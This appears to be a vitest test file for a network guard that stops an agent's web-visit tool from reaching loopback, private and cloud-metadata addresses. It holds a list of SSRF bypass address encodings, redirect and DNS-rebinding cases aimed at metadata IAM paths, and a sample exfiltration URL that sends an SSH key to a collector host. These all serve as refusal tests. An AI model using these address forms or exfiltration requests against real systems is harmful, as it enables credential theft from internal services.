import { createServer, type AddressInfo } from 'node:net';
import { afterEach, describe, expect, it } from 'vitest';
import { fetch } from 'undici';
import type { HarnessError } from '../../../src/errors.js';
import {
  classifyAddress,
  findRefusal,
  guardedAgent,
  NetworkOptionsSchema,
  NetworkPolicy,
  type GuardedAgentOptions,
  type NetworkOptions,
} from '../../../src/tools/builtin/network-guard.js';
import { recordingConnector, stubLookup } from './support/network.js';
import { startServer, type LoopbackServer } from './support/server.js';

/** The connection-level guard: the undici Agent visit uses by default, driven through undici's own fetch. */

let server: LoopbackServer | undefined;
afterEach(async () => {
  await server?.close();
  server = undefined;
});

const agentFor = (network: NetworkOptions, seams: GuardedAgentOptions) =>
  guardedAgent(new NetworkPolicy(NetworkOptionsSchema.parse(network), 'visit'), seams);

async function refusal(promise: Promise<unknown>): Promise<HarnessError> {
  const error = await promise.then(
    () => undefined,
    (e: unknown) => e,
  );
  const found = findRefusal(error);
  expect(found, `expected a network refusal, got ${String(error)}`).toBeDefined();
  expect(found?.code).toBe('policy-denied');
  return found as HarnessError;
}

/** Every address form of issue #13, and the ranges around them. */
const REFUSED_BY_DEFAULT = [
  '127.0.0.1',
  'localhost',
  'app.localhost',
  '[::1]',
  '0.0.0.0',
  '2130706433',
  '0x7f000001',
  '127.1',
  '0177.0.0.1',
  '[::ffff:127.0.0.1]',
  '[::127.0.0.1]',
  '[64:ff9b::127.0.0.1]',
  '[2002:7f00:1::]',
  '169.254.169.254',
  'metadata.google.internal',
  'metadata.google.internal.',
  '[fd00:ec2::254]',
  '100.100.100.200',
  '10.0.0.1',
  '172.16.5.4',
  '192.168.0.1',
  '100.64.0.1',
  '169.254.1.1',
  '[fc00::1]',
  '[fe80::1]',
  '224.0.0.1',
  '[ff02::1]',
  '255.255.255.255',
  '198.18.0.1',
  '[::]',
];

describe('guarded Agent: connections are checked before they are opened', () => {
  it.each(REFUSED_BY_DEFAULT)('refuses http://%s/ without connecting or resolving', async (host) => {
    const spy = recordingConnector();
    const dns = stubLookup({});
    const agent = await agentFor({}, { connector: spy.connector, lookup: dns.lookup });
    const error = await refusal(fetch(`http://${host}/latest/meta-data/`, { dispatcher: agent }));
    expect(error.message).toMatch(/^visit: refused /);
    expect(spy.calls).toEqual([]);
    expect(dns.asked).toEqual([]);
  });

  it('lets a public address through to the connector (the spy above would see a leak)', async () => {
    const spy = recordingConnector();
    const agent = await agentFor({}, { connector: spy.connector });
    await expect(fetch('http://93.184.216.34/', { dispatcher: agent })).rejects.toThrow();
    expect(spy.calls).toEqual(['93.184.216.34']);
  });

  it('refuses a DNS name that resolves to 127.0.0.1, and says so without naming the address', async () => {
    server = await startServer((_req, res) => {
      res.end('internal admin page');
    });
    const port = new URL(server.url).port;
    const dns = stubLookup({ 'intranet.example': ['127.0.0.1'] });
    const error = await refusal(
      fetch(`http://intranet.example:${port}/`, { dispatcher: await agentFor({}, { lookup: dns.lookup }) }),
    );
    expect(error.message).toContain('refused intranet.example: the name resolves to a loopback address');
    expect(error.message).not.toContain('127.0.0.1');
    expect(dns.asked).toEqual(['intranet.example']);
    expect(server.requests).toHaveLength(0);
  });

  it('refuses it over https too: TLS connections resolve through the same guarded lookup', async () => {
    let connections = 0;
    const tcp = createServer((socket) => {
      connections += 1;
      socket.destroy();
    });
    await new Promise<void>((resolve) => tcp.listen(0, '127.0.0.1', resolve));
    try {
      const dns = stubLookup({ 'secure.example': ['127.0.0.1'] });
      const { port } = tcp.address() as AddressInfo;
      await refusal(
        fetch(`https://secure.example:${port}/`, { dispatcher: await agentFor({}, { lookup: dns.lookup }) }),
      );
      expect(dns.asked).toEqual(['secure.example']);
      expect(connections).toBe(0);
    } finally {
      await new Promise((resolve) => tcp.close(resolve));
    }
  });

  it('with allowPrivate, the same stubbed name reaches the loopback server', async () => {
    server = await startServer((_req, res) => {
      res.end('internal admin page');
    });
    const port = new URL(server.url).port;
    const dns = stubLookup({ 'intranet.example': ['127.0.0.1'] });
    const response = await fetch(`http://intranet.example:${port}/`, {
      dispatcher: await agentFor({ allowPrivate: true }, { lookup: dns.lookup }),
    });
    expect(await response.text()).toBe('internal admin page');
    expect(server.requests).toHaveLength(1);
  });

  it('refuses a name when any address it resolves to is refused (a rebinding answer)', async () => {
    server = await startServer((_req, res) => {
      res.end('page');
    });
    const port = new URL(server.url).port;
    // The loopback answer comes first, so a broken guard would only ever reach the test server.
    const dns = stubLookup({ 'rebind.example': ['127.0.0.1', '169.254.169.254'] });
    const error = await refusal(
      fetch(`http://rebind.example:${port}/`, {
        dispatcher: await agentFor({ allowPrivate: true }, { lookup: dns.lookup }),
      }),
    );
    expect(error.message).toContain('the name resolves to a cloud metadata service');
    expect(server.requests).toHaveLength(0);
  });

  it('checks every redirect hop, because every hop is a new connection', async () => {
    server = await startServer((_req, res) => {
      res.writeHead(302, { location: 'http://169.254.169.254/latest/meta-data/iam/' });
      res.end();
    });
    const spy = recordingConnector((hostname) => hostname === '127.0.0.1');
    const agent = await agentFor({ allowPrivate: true }, { connector: spy.connector });
    const error = await refusal(fetch(`${server.url}/start`, { dispatcher: agent, redirect: 'follow' }));
    expect(error.message).toContain('refused 169.254.169.254: it is a cloud metadata service');
    expect(spy.calls).toEqual(['127.0.0.1']);
  });

  it('in allowHosts mode refuses every other host before DNS, so nothing leaks through a lookup either', async () => {
    const spy = recordingConnector();
    const dns = stubLookup({ 'collector.example': ['93.184.216.34'] });
    const agent = await agentFor(
      { allowHosts: ['docs.example.org'] },
      { connector: spy.connector, lookup: dns.lookup },
    );
    const error = await refusal(fetch('http://collector.example/collect?ssh_key=AAAA', { dispatcher: agent }));
    expect(error.message).toContain('only the hosts the application allows can be reached (docs.example.org)');
    expect(dns.asked).toEqual([]);
    expect(spy.calls).toEqual([]);
  });
});

describe('address classification (ipaddr.js ranges)', () => {
  it.each([
    ['8.8.8.8', 'public'],
    ['2606:4700::1111', 'public'],
    ['::ffff:8.8.8.8', 'public'],
    ['64:ff9b::8.8.8.8', 'public'],
    ['127.0.0.1', 'private'],
    ['::1', 'private'],
    ['::ffff:10.0.0.1', 'private'],
    ['fe80::1%eth0', 'private'],
    ['fec0::1', 'private'],
    ['169.254.169.254', 'never'],
    ['::ffff:169.254.169.254', 'never'],
    ['169.254.170.2', 'never'],
    ['0.0.0.0', 'never'],
    ['2001:db8::1', 'never'],
    ['2001::1', 'never'],
    ['4000::1', 'never'],
    ['not-an-address', 'never'],
  ])('%s is %s', (address, kind) => {
    expect(classifyAddress(address).kind).toBe(kind);
  });
});

describe('NetworkOptionsSchema', () => {
  it('canonicalises host patterns the way URLs are', () => {
    const parsed = NetworkOptionsSchema.parse({
      allowHosts: [' Docs.Example.org ', '*.Wikipedia.org', '[::1]', '2130706433'],
    });
    expect(parsed).toEqual({
      allowPrivate: false,
      allowHosts: ['docs.example.org', '*.wikipedia.org', '[::1]', '127.0.0.1'],
      denyHosts: [],
    });
  });

  it.each([
    [{ allowHosts: ['https://example.com/'] }, 'allowHosts.0', 'without scheme, port or path'],
    [{ allowHosts: ['example.com:8080'] }, 'allowHosts.0', 'without scheme, port or path'],
    [{ denyHosts: ['*.10.0.0.1'] }, 'denyHosts.0', 'subdomain pattern'],
    [{ allowHosts: [] }, 'allowHosts', 'would block every URL'],
    [{ allowHost: ['example.com'] }, '', 'allowHost'],
    [{ allowPrivate: 'yes' }, 'allowPrivate', 'boolean'],
  ])('rejects %j', (value, path, message) => {
    const parsed = NetworkOptionsSchema.safeParse(value);
    expect(parsed.success).toBe(false);
    const issue = parsed.error?.issues[0];
    expect(issue?.path.join('.')).toBe(path);
    expect(JSON.stringify(issue)).toContain(message);
  });
});
